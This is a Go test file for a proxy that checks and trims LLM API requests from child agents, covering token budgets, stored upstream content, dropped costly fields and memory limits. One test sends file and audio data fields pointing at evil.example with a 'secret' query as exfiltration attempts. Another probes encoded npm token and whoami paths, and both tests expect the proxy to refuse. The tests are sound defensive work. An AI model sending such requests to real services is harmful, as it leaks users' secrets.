package route

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"runtime"
	"slices"
	"strings"
	"testing"
)

// TestWhatBytesDoNotMeasure: an image of 300 bytes is thousands of tokens, and a document of a few thousand bytes is as much as a
// model can read. A budget that counts bytes would let a child spend a hundred times what was reserved.
func TestWhatBytesDoNotMeasure(t *testing.T) {
	data := base64.StdEncoding.EncodeToString([]byte("some bytes"))
	anthropic := func(block string) string { return `{"model":"m","messages":[{"content":[` + block + `]}]}` }
	for name, test := range map[string]struct {
		preset, target, sent string
		images               int64
		unmeasured           bool
	}{
		"a text":               {"anthropic", "/v1/messages", anthropic(`{"type":"text","text":"x"}`), 0, false},
		"an image":             {"anthropic", "/v1/messages", anthropic(`{"type":"image","source":{"type":"base64","media_type":"image/png","data":"` + data + `"}}`), 1, false},
		"two, one in a result": {"anthropic", "/v1/messages", anthropic(`{"type":"image","source":{"data":"AA"}},{"type":"tool_result","content":[{"type":"image","source":{"data":"AA"}}]}`), 2, false},
		"a document":           {"anthropic", "/v1/messages", anthropic(`{"type":"document","source":{"type":"base64","media_type":"application/pdf","data":"AA"}}`), 1, true},
		"said to be an image":  {"anthropic", "/v1/messages", anthropic(`{"type":"document","source":{"type":"base64","media_type":"image/png","data":"AA"}}`), 1, true},
		"a document of text":   {"anthropic", "/v1/messages", anthropic(`{"type":"document","source":{"type":"text","media_type":"text/plain","data":"AA"}}`), 0, false},
		"in a document":        {"anthropic", "/v1/messages", anthropic(`{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"data":"AA"}}]}}`), 1, false},
		"of a chat":            {"openai-chat", "/v1/chat/completions", anthropic(`{"type":"image_url","image_url":{"url":"data:image/png;base64,AA"}}`), 1, false},
		"a document as image":  {"openai-chat", "/v1/chat/completions", anthropic(`{"type":"image_url","image_url":{"url":"data:application/pdf;base64,AA"}}`), 1, true},
		"a film":               {"openai-chat", "/v1/chat/completions", anthropic(`{"type":"video_url","video_url":{"url":"data:video/mp4;base64,AA"}}`), 1, true},
		"a file of a chat":     {"openai-chat", "/v1/chat/completions", anthropic(`{"type":"file","file":{"filename":"a.pdf","file_data":"data:application/pdf;base64,AA"}}`), 0, true},
		"sound":                {"openai-chat", "/v1/chat/completions", anthropic(`{"type":"input_audio","input_audio":{"data":"AA","format":"mp3"}}`), 0, true},
		"of a response":        {"openai", "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,AA"}]}]}`, 1, false},
		"a file of a response": {"openai", "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_data":"AA"}]}]}`, 0, true},
		"of a function":        {"openai", "/v1/responses", `{"model":"m","input":[{"type":"function_call_output","output":[{"type":"input_image","image_url":"data:image/png;base64,AA"}]}]}`, 1, false},
		"one that it made":     {"openai", "/v1/responses", `{"model":"m","input":[{"type":"image_generation_call","result":"AA"}]}`, 1, false},
		"google":               {"google", "/v1beta/models/m:generateContent", `{"contents":[{"parts":[{"inlineData":{"mimeType":"image/png","data":"AA"}}]}]}`, 1, false},
		"google, a film":       {"google", "/v1beta/models/m:generateContent", `{"contents":[{"parts":[{"inline_data":{"mime_type":"video/mp4","data":"AA"}}]}]}`, 1, true},
		"google, of a call":    {"google", "/v1beta/models/m:generateContent", `{"contents":[{"parts":[{"functionResponse":{"parts":[{"inlineData":{"mimeType":"audio/ogg","data":"AA"}}]}}]}]}`, 1, true},
		"bedrock":              {"bedrock", "/model/m/converse", `{"messages":[{"content":[{"image":{"format":"png","source":{"bytes":"AA"}}}]}]}`, 1, false},
		"bedrock, a document":  {"bedrock", "/model/m/converse", `{"messages":[{"content":[{"document":{"format":"pdf","source":{"type":"text","bytes":"AA"}}}]}]}`, 1, true},
		"bedrock, sound":       {"bedrock", "/model/m/converse", `{"messages":[{"content":[{"audio":{"source":{"bytes":"AA"}}}]}]}`, 1, true},
		"bedrock, a guard":     {"bedrock", "/model/m/converse", `{"messages":[{"content":[{"guardContent":{"image":{"source":{"bytes":"AA"}}}}]}]}`, 1, false},
		"bedrock, claude":      {"bedrock", "/model/anthropic.m/invoke", `{"messages":[{"content":[{"type":"document","source":{"data":"AA"}}]}]}`, 1, true},
		"bedrock, claude text": {"bedrock", "/model/anthropic.m/invoke", `{"messages":[{"content":[{"type":"text","text":"x"}]}]}`, 0, false},
		"bedrock, any vendor":  {"bedrock", "/model/meta.m/invoke", `{"prompt":"x","images":["AA"]}`, 0, true},
	} {
		e, err := ofPreset(t, test.preset).Decide(post(test.target, test.sent))
		if err != nil || e.Images != test.images || e.Unmeasured != test.unmeasured {
			t.Errorf("%s: %d images, unmeasured %v, %v", name, e.Images, e.Unmeasured, err)
		}
	}
}

// TestWhatTheUpstreamStores: content that a request only names is not in its bytes, and may be another run's.
func TestWhatTheUpstreamStores(t *testing.T) {
	for name, test := range map[string]struct{ preset, target, sent string }{
		"a response":             {"openai", "/v1/responses", `{"model":"m","previous_response_id":"resp_1"}`},
		"another spelling":       {"openai", "/v1/responses", `{"model":"m","previousResponseId":"resp_1"}`},
		"a conversation":         {"openai", "/v1/responses", `{"model":"m","conversation":{"id":"conv_1"}}`},
		"an item":                {"openai", "/v1/responses", `{"model":"m","input":[{"type":"item_reference","id":"msg_1"}]}`},
		"an item without a type": {"openai", "/v1/responses", `{"model":"m","input":[{"id":"msg_1"}]}`},
		"a file":                 {"openai", "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_id":"file_1"}]}]}`},
		"an image":               {"openai", "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","file_id":"file_1"}]}]}`},
		"a file of a chat":       {"openai-chat", "/v1/chat/completions", `{"model":"m","messages":[{"content":[{"type":"file","file":{"file_id":"file_1"}}]}]}`},
		"sound of a chat":        {"openai-chat", "/v1/chat/completions", `{"model":"m","messages":[{"role":"assistant","audio":{"id":"audio_1"}}]}`},
		"of claude":              {"anthropic", "/v1/messages", `{"model":"m","messages":[{"content":[{"type":"document","source":{"type":"file","file_id":"file_1"}}]}]}`},
		"a cache of google":      {"google", "/v1beta/models/m:generateContent", `{"cachedContent":"cachedContents/1"}`},
	} {
		_, err := ofPreset(t, test.preset).Decide(post(test.target, test.sent))
		if err == nil {
			t.Errorf("%s passes", name)
		} else if r := refusal(t, err); r.Code != CodeReach {
			t.Errorf("%s: %s %s", name, r.Code, r.Text)
		}
		e, err := ofPreset(t, test.preset, "reach", []any{"stored"}).Decide(post(test.target, test.sent))
		if err != nil || !e.Unmeasured {
			t.Errorf("%s, where the reach has it: unmeasured %v, %v", name, e.Unmeasured, err)
		}
	}
	for name, sent := range map[string]string{
		"none": `"previous_response_id":null`, "an item with an id": `"input":[{"id":"msg_1","type":"message","content":[{"type":"output_text","text":"x"}]}]`,
	} {
		if e, err := ofPreset(t, "openai").Decide(post("/v1/responses", `{"model":"m",`+sent+`}`)); err != nil || e.Unmeasured {
			t.Errorf("%s: %v, unmeasured %v", name, err, e.Unmeasured)
		}
	}
}

// TestDearerThanItsPrice: what makes the same tokens cost more, or tokens that no answer counts, is taken out.
func TestDearerThanItsPrice(t *testing.T) {
	for name, test := range map[string]struct{ preset, target, field, word string }{
		"a place":         {"anthropic", "/v1/messages", `"inference_geo":"us"`, "inference_geo"},
		"a summary":       {"anthropic", "/v1/messages", `"context_management":{"edits":[{"type":"clear_tool_uses_20250919"},{"type":"compact_20260112"}]}`, "context_management"},
		"openai's":        {"openai", "/v1/responses", `"context_management":[{"type":"compaction"}]`, "context_management"},
		"a prediction":    {"openai-chat", "/v1/chat/completions", `"prediction":{"type":"content","content":"x"}`, "prediction"},
		"a dear provider": {"openrouter", "/v1/chat/completions", `"provider":{"only":["dear"]}`, "provider"},
		"haste":           {"bedrock", "/model/m/converse", `"performanceConfig":{"latency":"optimized"}`, "performanceConfig"},
		"a tier":          {"bedrock", "/model/m/converse", `"serviceTier":{"type":"priority"}`, "service_tier"},
	} {
		model := `"model":"m",`
		if test.preset == "bedrock" {
			model = `"messages":[],`
		}
		e, err := ofPreset(t, test.preset).Decide(post(test.target, `{`+model+test.field+`}`))
		if err != nil || string(e.Body) != `{`+model[:len(model)-1]+`}` || len(e.Dropped) != 1 || e.Dropped[0] != test.word {
			t.Errorf("%s: %s leaves, without %v, %v", name, e.Body, e.Dropped, err)
		}
	}
	kept := `{"model":"m","context_management":{"edits":[{"type":"clear_tool_uses_20250919","keep":{"type":"tool_uses","value":3}}]}}`
	if e, err := ofPreset(t, "anthropic").Decide(post("/v1/messages", kept)); err != nil || string(e.Body) != kept {
		t.Errorf("to leave out old parts is free: %s, %v", e.Body, err)
	}
	if _, err := ofPreset(t, "openrouter").Decide(post("/v1/chat/completions", `{"model":"m:nitro"}`)); err == nil {
		t.Error("the model of the fastest provider passes")
	}
}

// TestTheLengthThatCounts: a body says it where its upstream looks, and nowhere else.
func TestTheLengthThatCounts(t *testing.T) {
	for name, test := range map[string]struct {
		preset, target, sent string
		most                 int64
	}{
		"converse does not heed claude's":    {"bedrock", "/model/anthropic.m/converse", `{"max_tokens":1}`, 0},
		"claude does not heed converse's":    {"bedrock", "/model/anthropic.m/invoke", `{"max_tokens":9000,"inferenceConfig":{"maxTokens":1}}`, 9000},
		"another vendor heeds its own":       {"bedrock", "/model/meta.m/invoke", `{"max_gen_len":9000,"inferenceConfig":{"maxTokens":1}}`, 0},
		"it thinks more than it says":        {"anthropic", "/v1/messages", `{"model":"m","max_tokens":1000,"thinking":{"type":"enabled","budget_tokens":50000}}`, 51000},
		"it thinks less":                     {"anthropic", "/v1/messages", `{"model":"m","max_tokens":1000,"thinking":{"type":"enabled","budget_tokens":999}}`, 1000},
		"it thinks more through converse":    {"bedrock", "/model/m/converse", `{"inferenceConfig":{"maxTokens":10},"additionalModelRequestFields":{"thinking":{"budget_tokens":50}}}`, 60},
		"a tool's schema says what it wants": {"bedrock", "/model/m/converse", `{"inferenceConfig":{"maxTokens":10},"additionalModelRequestFields":{"tools":[{"name":"a","input_schema":{"maxItems":1}}]}}`, 10},
	} {
		e, err := ofPreset(t, test.preset).Decide(post(test.target, test.sent))
		if err != nil || e.MaxOutput != test.most {
			t.Errorf("%s: %d tokens, %v", name, e.MaxOutput, err)
		}
	}
	const chat = "/v1/chat/completions"
	for sent, most := range map[string]int64{
		`{"model":"m","max_tokens":1}`:                                                        1,
		`{"model":"m","max_tokens":1,"thinking_budget":50,"enable_thinking":true}`:            51,
		`{"model":"m","max_tokens":1,"thinking":{"type":"enabled","budget_tokens":50}}`:       51,
		`{"model":"m","max_tokens":1,"reasoning":{"max_tokens":50}}`:                          51,
		`{"model":"m","max_tokens":1,"chat_template_kwargs":{"thinking_budget":50}}`:          51,
		`{"model":"m","max_tokens":1,"enable_thinking":true}`:                                 0,
		`{"model":"m","max_tokens":1,"thinking_budget":-1}`:                                   0,
		`{"model":"m","max_tokens":1,"thinking":null,"enable_thinking":null}`:                 1,
		`{"model":"m","max_tokens":1,"thinking":false}`:                                       0,
		`{"model":"m","max_tokens":1,"thinking":true}`:                                        0,
		`{"model":"m","max_tokens":1,"thinking":{"type":"auto"}}`:                             0,
		`{"model":"m","max_tokens":1,"thinking":{"type":"disabled"},"enable_thinking":false}`: 1,
		`{"model":"m","max_tokens":1,"thinking":{}}`:                                          1,
		// What a server may read in another way, or not at all.
		`{"model":"m","max_tokens":1,"thinking":{"type":"disabled","type":"enabled"}}`: 0,
		`{"model":"m","max_tokens":1,"thinking":{"type":"enabled","é":1}}`:             0,
		`{"model":"m","max_tokens":1,"thinking":{"type":"enabled","budgetTokens":1}}`:  0,
		`{"model":"m","max_tokens":1,"Thinking":{"type":"enabled","budget_tokens":1}}`: 0,
		`{"model":"m","max_tokens":1,"reasoning":{"enabled":"disabled"}}`:              0,
		`{"model":"m","max_tokens":1,"enable_thinking":"false"}`:                       0,
	} {
		if e, err := ofPreset(t, "compatible").Decide(post(chat, sent)); err != nil || e.MaxOutput != most {
			t.Errorf("%s: %d tokens, not %d, %v", sent, e.MaxOutput, most, err)
		}
	}
}

// TestTheLengthOfModelsThatThinkUnasked: only what their vendor reads as a bound, or as an end of thinking, bounds them.
func TestTheLengthOfModelsThatThinkUnasked(t *testing.T) {
	const alibaba, volcengine = "https://dashscope.aliyuncs.com/v1", "https://ark.cn-beijing.volces.com/api/v3"
	for field, most := range map[string]map[string]int64{
		``:                                {alibaba: 0, volcengine: 0},
		`,"enable_thinking":false`:        {alibaba: 1, volcengine: 0},
		`,"enable_thinking":null`:         {alibaba: 0, volcengine: 0},
		`,"enable_thinking":"disabled"`:   {alibaba: 0, volcengine: 0},
		`,"enableThinking":false`:         {alibaba: 0, volcengine: 0},
		`,"thinking_budget":9`:            {alibaba: 10, volcengine: 0},
		`,"thinkingBudget":9`:             {alibaba: 0, volcengine: 0},
		`,"thinking":{"type":"disabled"}`: {alibaba: 0, volcengine: 1},
		`,"thinking":{"Type":"disabled"}`: {alibaba: 0, volcengine: 0},
		`,"thinking":{"type":false}`:      {alibaba: 0, volcengine: 0},
		`,"thinking":false`:               {alibaba: 0, volcengine: 0},
		`,"thinking":{"budget_tokens":1}`: {alibaba: 0, volcengine: 0},
		`,"reasoning":{"max_tokens":1}`:   {alibaba: 0, volcengine: 0},
	} {
		for upstream, most := range most {
			unasked := parsed(t, map[string]any{"preset": "compatible", "upstream": upstream})
			if e, err := unasked.Decide(post("/v1/chat/completions", `{"model":"m","max_tokens":1`+field+`}`)); err != nil || e.MaxOutput != most {
				t.Errorf("%s, whose models think unasked, %s: %d tokens, not %d, %v", upstream, field, e.MaxOutput, most, err)
			}
		}
	}
}

// TestLengthsThatAreNotTaken: an upstream that takes no length, several answers, and a length in another place.
func TestLengthsThatAreNotTaken(t *testing.T) {
	e, err := parsed(t, map[string]any{"preset": "codex-login", "credential": map[string]any{"codex": "/x"}}).Decide(post("/v1/responses", `{"model":"m","input":"x","max_output_tokens":1}`))
	if err != nil || e.MaxOutput != 0 {
		t.Errorf("an upstream that takes no length: %d tokens, %v", e.MaxOutput, err)
	}
	if e, err := ofPreset(t, "bedrock").Decide(post("/model/cohere.m/invoke", `{"prompt":"x","num_generations":5}`)); err == nil {
		t.Errorf("several answers of another vendor's: %s", e.Body)
	}
	for _, more := range []string{`"max_tokens":64000`, `"inferenceConfig":{"max_new_tokens":64000}`, `"maxTokens":1`} {
		sent := `{"inferenceConfig":{"maxTokens":1},"additionalModelRequestFields":{` + more + `}}`
		if e, err := ofPreset(t, "bedrock").Decide(post("/model/m/converse", sent)); err == nil {
			t.Errorf("%s passes, with %d tokens", more, e.MaxOutput)
		}
	}
	sent := `{"messages":[],"additionalModelRequestFields":{"tools":[{"type":"web_search_20250305"}]}}`
	if e, err := ofPreset(t, "bedrock").Decide(post("/model/m/converse", sent)); err != nil || len(e.Dropped) != 1 {
		t.Errorf("a tool of the upstream passes among a vendor's own fields: %s, %v", e.Body, err)
	}
}

// TestDataThatIsAnAddress: some upstreams fetch what stands where data belongs.
func TestDataThatIsAnAddress(t *testing.T) {
	for name, block := range map[string]string{
		"a file":          `{"type":"file","file":{"file_data":"https://evil.example/?secret"}}`,
		"a file, escaped": `{"type":"file","file":{"file_data":"https\u003a//evil.example/?secret"}}`,
		"sound":           `{"type":"input_audio","input_audio":{"data":"https://evil.example/?secret"}}`,
	} {
		_, err := ofPreset(t, "openrouter").Decide(post("/v1/chat/completions", `{"model":"m","messages":[{"content":[`+block+`]}]}`))
		if err == nil || refusal(t, err).Code != CodeReach {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestAPackageIsAName: what else a registry has below its names, such as the user of a token, is not reached through one.
func TestAPackageIsAName(t *testing.T) {
	r := ofPreset(t, "npm")
	for _, path := range []string{"/left-pad", "/@scope%2fname", "/@scope%2Fname"} {
		if _, err := r.Decide(get(path)); err != nil {
			t.Errorf("%s: %v", path, err)
		}
	}
	for _, path := range []string{"/-%2Fwhoami", "/-%2Fnpm%2Fv1%2Ftokens", "/-%2fnpm%2fv1%2fuser", "/@scope%2Fname%2Faccess", "/@%2Fname"} {
		if e, err := r.Decide(get(path)); err == nil {
			t.Errorf("%s leads to %s", path, e.URL)
		}
	}
}

// TestAKeyTwiceAmongMany is found wherever the two stand, and no two others are taken for one.
func TestAKeyTwiceAmongMany(t *testing.T) {
	var keys []string
	for i := range maxMembers - 2 {
		keys = append(keys, fmt.Sprintf(`"k%d":1`, i))
	}
	all := strings.Join(keys, ",")
	if _, err := parseDocument([]byte(`{"model":"m",` + all + `}`)); err != nil {
		t.Fatal(err)
	}
	for _, key := range keys {
		if _, err := parseDocument([]byte(`{` + all + `,` + strings.ToUpper(key) + `}`)); err == nil {
			t.Errorf("%s is there twice", key)
		}
	}
}

// TestFieldsThatAreNotKnown: vendors add fields that name other models, other payers, or what is stored. They do not leave.
func TestFieldsThatAreNotKnown(t *testing.T) {
	for _, test := range []struct{ preset, target, field string }{
		{"anthropic", "/v1/messages", `"fallbacks":[{"model":"dear"}]`},
		{"anthropic", "/v1/messages", `"thread":{"id":"thread_1"}`},
		{"anthropic", "/v1/messages", `"workspaceId":"another"`},
		{"anthropic", "/v1/messages", `"compaction":{}`},
		{"anthropic", "/v1/messages", `"something_new":1`},
		{"claude-login", "/v1/messages", `"fallbacks":[{"model":"dear"}]`},
		{"openai", "/v1/responses", `"something_new":1`},
		{"openrouter", "/v1/chat/completions", `"fallbacks":[{"model":"dear"}]`},
		{"compatible", "/v1/chat/completions", `"enable_search":true`},
		{"compatible", "/v1/chat/completions", `"providerOptions":{"gateway":{"models":["dear"],"speed":"fast"}}`},
		{"openai-chat", "/v1/chat/completions", `"modalities":["text","audio"]`},
		{"openai-chat", "/v1/chat/completions", `"something_new":1`},
	} {
		e, err := ofPreset(t, test.preset, "models", []any{"m"}).Decide(post(test.target, `{"model":"m",`+test.field+`}`))
		if err != nil || string(e.Body) != `{"model":"m"}` || len(e.Dropped) != 1 {
			t.Errorf("%s: %s leaves, without %v, %v", test.field, e.Body, e.Dropped, err)
		}
	}
	sent := `{"model":"m","somethingNew":1}`
	for preset, target := range map[string]string{"anthropic": "/v1/messages", "compatible": "/v1/chat/completions"} {
		if e, err := ofPreset(t, preset, "reach", []any{"something_new"}).Decide(post(target, sent)); err != nil || string(e.Body) != sent {
			t.Errorf("%s, where the reach names it: %s, %v", preset, e.Body, err)
		}
	}
}

// TestWhatWasDroppedIsBrief: a child that thinks of words does not fill the memory in which events are kept.
func TestWhatWasDroppedIsBrief(t *testing.T) {
	var tools []string
	for i := range 5000 {
		tools = append(tools, fmt.Sprintf(`{"type":"%d%s"}`, i, strings.Repeat("x", 200)))
	}
	e, err := ofPreset(t, "anthropic").Decide(post("/v1/messages", `{"model":"m","tools":[`+strings.Join(tools, ",")+`]}`))
	if err != nil {
		t.Fatal(err)
	}
	if told := strings.Join(e.Dropped, " "); len(told) > 4<<10 || !strings.HasSuffix(told, "and more") {
		t.Errorf("what was dropped is told in %d bytes: %s", len(told), told)
	}
	e, err = ofPreset(t, "anthropic").Decide(post("/v1/messages", `{"model":"m","tools":[`+strings.Repeat(`{"type":"x"},`, 5000)+`{"type":"x"}]}`))
	if err != nil {
		t.Fatal(err)
	}
	if len(e.Dropped) != 1 || cap(e.Dropped) > 2*mostDropped {
		t.Errorf("one word that is dropped 5001 times is told %d times, and takes the room of %d", len(e.Dropped), cap(e.Dropped))
	}
}

// TestNothingOfABodyIsKept: Decide names the parts that it removed, and these names do not keep the body in memory.
func TestNothingOfABodyIsKept(t *testing.T) {
	r := parsed(t, map[string]any{"preset": "anthropic"})
	const size, requests = 4 << 20, 4
	var told [][]string
	before := inUse()
	for range requests {
		e, err := r.Decide(Request{
			Method: http.MethodPost, Path: "/v1/messages", Header: http.Header{"Content-Type": {"application/json"}},
			Body: []byte(`{"model":"m","max_tokens":1,"messages":[],"` + strings.Repeat("k", size) + `":0}`),
		})
		if err != nil || len(e.Dropped) != 1 {
			t.Fatalf("%q, %v", e.Dropped, err)
		}
		told = append(told, e.Dropped)
	}
	if after := inUse(); after > before+requests*size/4 {
		t.Errorf("%d MiB are kept by %d words", (after-before)>>20, len(told))
	}
	runtime.KeepAlive(told)
}

// inUse counts the bytes of the heap that are in use.
func inUse() uint64 {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.HeapAlloc
}

// TestAListOfNothingTakesNoMemory: a list of empty betas would take eight times its length.
func TestAListOfNothingTakesNoMemory(t *testing.T) {
	r := parsed(t, map[string]any{"preset": "anthropic"})
	body := []byte(`{"model":"m","max_tokens":1,"messages":[],"betas":["a"` + strings.Repeat(`,""`, 1<<20) + `]}`)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	e, err := r.Decide(Request{Method: http.MethodPost, Path: "/v1/messages", Header: http.Header{"Content-Type": {"application/json"}}, Body: body})
	runtime.ReadMemStats(&after)
	if used := int(after.TotalAlloc - before.TotalAlloc); err != nil || !slices.Equal(e.Dropped, []string{"betas"}) || used > 4*len(body) {
		t.Errorf("%q, %v; it took %d bytes to read %d", e.Dropped, err, used, len(body))
	}
}

// TestUnknownMembersCostLittle: a child sends as many as it may, in a spelling that has to be folded, and so do tools.
func TestUnknownMembersCostLittle(t *testing.T) {
	for preset, target := range map[string]string{
		"anthropic": "/v1/messages", "openai": "/v1/responses", "openai-chat": "/v1/chat/completions", "compatible": "/v1/chat/completions",
	} {
		var body strings.Builder
		body.WriteString(`{"model":"m"`)
		for i := range maxMembers - 10 {
			fmt.Fprintf(&body, `,"A_%d":0`, i)
		}
		q := post(target, body.String()+"}")
		if e, err := ofPreset(t, preset).Decide(q); err != nil || len(e.Dropped) == 0 {
			t.Errorf("%s: %q, %v", preset, e.Dropped, err)
		}
		r := ofPreset(t, preset)
		if n := testing.AllocsPerRun(5, func() { _, _ = r.Decide(q) }); n > 10*maxMembers {
			t.Errorf("%s: %.0f allocations for a body of %d bytes", preset, n, body.Len())
		}
	}
	var tools []string
	for range 1000 {
		tools = append(tools, `{"Function_Declarations":[]}`)
	}
	r, q := ofPreset(t, "google"), post("/v1beta/models/m:generateContent", `{"tools":[`+strings.Join(tools, ",")+`]}`)
	if n := testing.AllocsPerRun(5, func() { _, _ = r.Decide(q) }); n > 10*float64(len(tools)) {
		t.Errorf("google: %.0f allocations for %d tools", n, len(tools))
	}
}
